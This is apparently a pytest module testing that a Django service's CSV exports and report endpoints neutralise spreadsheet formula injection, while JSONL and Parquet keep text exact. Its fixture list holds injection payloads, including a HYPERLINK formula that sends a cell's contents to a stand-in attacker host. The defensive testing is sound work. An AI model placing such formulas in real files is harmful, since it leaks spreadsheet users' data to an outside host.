"""Every CSV the service writes opens in a spreadsheet as text: no cell starts with a formula
trigger (``=``, ``+``, ``-``, ``@``, tab, carriage return) unless it is a number; JSONL and
Parquet keep hostile text exactly (docs/exports.md, "CSV and spreadsheets")."""

import csv
import gzip
import io
import json
from datetime import UTC, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from rest_framework.test import APIClient

from config.renderers import CSVRenderer
from config.spreadsheet import FORMULA_TRIGGERS, safe_cell
from conversations.models import KBReference, Role
from exports.exporters import REGISTRY
from exports.writers import RowWriter
from ratings.models import Item, Judgment, Score, TaskKind
from ratings.services.items import items_queue
from ratings.services.quality import quality_compute
from ratings.services.rubrics import rubric_set
from tests.factories import ConversationFactory, MessageFactory

pytestmark = pytest.mark.django_db

# what a chatbot's end user can type; each starts with one of the six triggers
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
MODELS = ("-model-a", "@model-b")


def api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(rows: list[list[str]], where: str) -> list[str]:
    """No cell (header included) starts with a trigger unless it is a number; the cells."""
    flat = [cell for row in rows for cell in row]
    assert rows, f"{where}: no rows"
    live = [c for c in flat if c.startswith(FORMULA_TRIGGERS) and not is_number(c)]
    assert not live, f"{where}: cells a spreadsheet runs as formulas: {live!r}"
    return flat


@pytest.fixture
def hostile(project, lead, member):
    """Pairs, scores, KB answers and raters whose every text a user controls is hostile."""
    rubric = rubric_set(
        project=project,
        user=lead,
        criteria=[
            {
                "key": "helpfulness",
                "points": 5,
                "anchors": ["Useless", "Poor", "Adequate", "Good", "Excellent"],
                "applies_to": ["score", "pairwise"],
            }
        ],
    )
    for i, text in enumerate(HOSTILE):
        conv = ConversationFactory(project=project, external_id=f"h{i}", source_name=text)
        MessageFactory(conversation=conv, position=0, role="user", content=text)
        for c, model in enumerate(MODELS):
            MessageFactory(
                conversation=conv,
                position=1,
                candidate=c,
                role="assistant",
                content=HOSTILE[(i + c) % len(HOSTILE)],
                model=model,
            )
    items_queue(project=project, user=lead, kinds=(TaskKind.PAIRWISE, TaskKind.SCORE))
    # rater user names may start with - + @ (Django's user name rule allows them)
    raters = [member(Role.EVALUATOR, username=name) for name in ("-r0", "@r1", "+r2")]
    helpfulness = rubric.criteria.get(key="helpfulness")
    for item in Item.objects.filter(project=project).order_by("id"):
        for r, rater in enumerate(raters):
            j = Judgment.objects.create(
                item=item,
                rater=rater,
                rubric=rubric,
                preference=(-1 if r < 2 else 1) if item.kind == TaskKind.PAIRWISE else None,
                left_is_a=True if item.kind == TaskKind.PAIRWISE else None,
                created_at=datetime(2024, 4, 1, 12, r, tzinfo=UTC),
            )
            if item.kind == TaskKind.SCORE:
                Score.objects.create(judgment=j, criterion=helpfulness, value=1 + (r + 3) % 5)
    sme = member(Role.SME, username="=sme")
    for i, text in enumerate(HOSTILE):
        conv = ConversationFactory(
            project=project,
            external_id=f"kb{i}",
            source_name=text,
            metadata={"topic": text},
            occurred_at=datetime(2024, 3, 5, 12, tzinfo=UTC),
        )
        MessageFactory(conversation=conv, position=0, role="user", content=text)
        answer = MessageFactory(
            conversation=conv, position=1, role="assistant", content=text, model=MODELS[i % 2]
        )
        KBReference.objects.create(message=answer, position=0, article_id=text, title=text)
        item = Item.objects.create(
            project=project,
            kind=TaskKind.KB_VERIFY,
            conversation=conv,
            response=answer,
            overlap=3,
        )
        Judgment.objects.create(
            item=item,
            rater=sme,
            verdict="incorrect",
            corrected_answer=text,
            missing_fact=text,
            kb_issues=[{"article_id": text, "problem": "wrong"}],
            created_at=datetime(2024, 4, 1, tzinfo=UTC),
        )
    quality_compute(project_id=project.pk, n_boot=20)
    return project, raters


# ---------------------------------------------------------------------------
# The one function
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_quotes_text_that_starts_with_a_trigger(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["plain", "", "'already quoted", "a=b", " =1", "[1, 2]", -1, -2.5, 0, None, True]
)
def test_safe_cell_leaves_other_text_and_numbers_alone(value):
    assert safe_cell(value) == value


# ---------------------------------------------------------------------------
# Export files: every format as CSV (plain and gzip), JSONL and Parquet exact
# ---------------------------------------------------------------------------

OPTIONS = {"kto": {"kto_source": "pairwise"}}


def export_files(capture, client, project, fmt, file_type, compress=False) -> dict[str, bytes]:
    """Start an export through the API (the task runs on commit) and download its data."""
    with capture(execute=True):
        response = client.post(
            f"/api/v1/projects/{project.slug}/exports/",
            {
                "format": fmt,
                "file_type": file_type,
                "compress": compress,
                "options": OPTIONS.get(fmt, {}),
            },
            format="json",
        )
    assert response.status_code == 202, response.content
    status = client.get(response["Location"]).json()
    assert status["state"] == "succeeded", status["error"]
    files = {}
    for d in status["downloads"]:
        if d.get("kind") in ("manifest", "card"):
            continue
        body = b"".join(client.get(d["url"]).streaming_content)
        files[d["name"]] = gzip.decompress(body) if compress else body
    assert files
    return files


@pytest.mark.parametrize("compress", [False, True])
@pytest.mark.parametrize("fmt", list(REGISTRY))
def test_every_export_format_as_csv_is_inert(
    hostile, lead, fmt, compress, django_capture_on_commit_callbacks
):
    project, _ = hostile
    client = api(lead)
    files = export_files(django_capture_on_commit_callbacks, client, project, fmt, "csv", compress)
    for name, body in files.items():
        flat = assert_inert(cells(body.decode()), f"{fmt} {name}")
        # the hostile texts are there, as text: a top-level text cell or inside JSON text
        if fmt in ("trl", "rubric-scores"):
            assert any(c.startswith("'") for c in flat), flat
        if fmt == "hh-rlhf":  # each cell starts with "\n\nHuman: ", no trigger
            assert any(f"Human: {HOSTILE[0]}" in c for c in flat)
        if fmt == "trl":
            prompts = {row[0] for row in cells(body.decode())[1:]}
            assert prompts == {"'" + t for t in HOSTILE}
        if fmt == "rubric-scores":
            assert {"'" + m for m in MODELS} <= set(flat)


@pytest.mark.parametrize("fmt", ["trl", "trl-conversational", "rubric-scores"])
def test_jsonl_and_parquet_keep_the_exact_text(
    hostile, lead, fmt, django_capture_on_commit_callbacks
):
    project, _ = hostile
    client = api(lead)
    jsonl = export_files(django_capture_on_commit_callbacks, client, project, fmt, "jsonl")
    parquet = export_files(django_capture_on_commit_callbacks, client, project, fmt, "parquet")
    rows = [json.loads(line) for body in jsonl.values() for line in body.splitlines()]
    for body in parquet.values():
        rows_pq = pq.read_table(io.BytesIO(body)).to_pylist()
        assert rows_pq == rows
    text = json.dumps(rows)
    for t in HOSTILE:
        assert json.dumps(t)[1:-1] in text  # exactly, no quote added
    assert "'" + HOSTILE[0] not in text and "'-model-a" not in text
    if fmt == "trl":
        assert {r["prompt"] for r in rows} == set(HOSTILE)
    if fmt == "rubric-scores":
        assert {r["model"] for r in rows} == set(MODELS)


def test_csv_exports_never_take_the_fast_path():
    """The fast export writes JSONL and Parquet only, so every CSV goes through RowWriter."""
    from exports.accel import fast
    from exports.pipeline import ExportOptions

    assert fast.refusal(ExportOptions(format="trl", file_type="csv")) is not None


# ---------------------------------------------------------------------------
# The API's CSV answers: reports (leads and consumers) and quality data (leads)
# ---------------------------------------------------------------------------

REPORT_CSV = {
    "reports-api:kb": "/api/v1/projects/{slug}/reports/kb/",
    "reports-api:kb-answers": "/api/v1/projects/{slug}/reports/kb/answers/",
    "reports-api:kb-sources": "/api/v1/projects/{slug}/reports/kb/sources/",
    "reports-api:kb-weekly": "/api/v1/projects/{slug}/reports/kb/weekly/",
    "reports-api:leaderboard": "/api/v1/projects/{slug}/reports/leaderboard/?n_boot=20",
}
QUALITY_CSV = {
    "ratings-api:quality-agreement": "/api/v1/projects/{slug}/quality/agreement/",
    "ratings-api:quality-raters": "/api/v1/projects/{slug}/quality/raters/",
    "ratings-api:quality-rater-trend": "/api/v1/projects/{slug}/quality/raters/{rater}/trend/",
    "ratings-api:quality-confusion": "/api/v1/projects/{slug}/quality/confusion/",
    "ratings-api:quality-contested": "/api/v1/projects/{slug}/quality/contested/",
}
# what each answer must show, neutralised, when the reader may see real names
EXPECTED = {
    "reports-api:kb": ["'" + t for t in HOSTILE],  # the article ids
    "reports-api:kb-answers": ["'" + t for t in HOSTILE] + ["'=sme"],
    "reports-api:kb-sources": ["'" + t for t in HOSTILE],
    "reports-api:leaderboard": ["'" + m for m in MODELS],
    "ratings-api:quality-raters": ["'-r0", "'@r1", "'+r2"],
}


def csv_endpoints(patterns=None, prefix="") -> set[str]:
    """The names of every URL whose view can answer CSV."""
    found = set()
    for p in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(p, URLResolver):
            found |= csv_endpoints(
                p.url_patterns, f"{prefix}{p.namespace}:" if p.namespace else prefix
            )
        elif isinstance(p, URLPattern):
            view = getattr(p.callback, "view_class", None)
            if view is not None and CSVRenderer in getattr(view, "renderer_classes", ()):
                found.add(f"{prefix}{p.name}")
    return found


def test_the_test_covers_every_csv_endpoint():
    assert csv_endpoints() == set(REPORT_CSV) | set(QUALITY_CSV)


@pytest.mark.parametrize("role", [Role.LEAD, Role.CONSUMER])
@pytest.mark.parametrize("name", list(REPORT_CSV))
def test_report_csv_is_inert(hostile, member, role, name):
    project, _ = hostile
    url = REPORT_CSV[name].format(slug=project.slug)
    response = api(member(role)).get(url, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    flat = assert_inert(cells(response.content.decode()), name)
    expected = EXPECTED.get(name, [])
    if role == Role.CONSUMER:  # consumers see pseudonyms, never the names
        expected = [e for e in expected if e != "'=sme"]
        assert not any("=sme" in c for c in flat)
    missing = [e for e in expected if not any(c == e or c.startswith(e) for c in flat)]
    assert not missing, (name, missing)


@pytest.mark.parametrize("name", list(QUALITY_CSV))
def test_quality_csv_is_inert(hostile, lead, name):
    project, raters = hostile
    url = QUALITY_CSV[name].format(slug=project.slug, rater=raters[0].pk)
    response = api(lead).get(url, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    flat = assert_inert(cells(response.content.decode()), name)
    for expected in EXPECTED.get(name, []):
        assert expected in flat, (name, expected)


def test_kb_answers_csv_neutralises_the_corrections(hostile, lead):
    project, _ = hostile
    response = api(lead).get(
        f"/api/v1/projects/{project.slug}/reports/kb/answers/", {"format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert {r["question"] for r in rows} == {"'" + t for t in HOSTILE}
    assert {r["answer"] for r in rows} == {"'" + t for t in HOSTILE}
    # "rater: text" starts with the rater's name, which may itself be hostile
    assert {r["corrected_answers"] for r in rows} == {f"'=sme: {t}" for t in HOSTILE}
    # and the JSON answer keeps every text exactly
    body = api(lead).get(f"/api/v1/projects/{project.slug}/reports/kb/answers/").json()
    assert {a["question"] for a in body} == set(HOSTILE)


def test_negative_numbers_stay_numbers_and_text_is_quoted(tmp_path):
    """OWASP's quote is for text: a numeric cell such as -1 keeps its sign and stays a
    number in the spreadsheet, in the API's CSV and in an export file alike."""
    body = CSVRenderer().render([{"score": -1, "margin": -0.5, "note": "-1", "n": None}])
    assert cells(body.decode()) == [["score", "margin", "note", "n"], ["-1", "-0.5", "'-1", ""]]

    schema = pa.schema(
        [("score", pa.float64()), ("note", pa.string()), ("tags", pa.list_(pa.string()))]
    )
    writer = RowWriter(tmp_path / "x.csv", "csv", False, schema)
    writer.write({"score": -1.0, "note": "@x", "tags": ["=1"]})
    writer.close()
    rows = cells((tmp_path / "x.csv").read_text(encoding="utf-8"))
    assert rows == [["score", "note", "tags"], ["-1.0", "'@x", '["=1"]']]
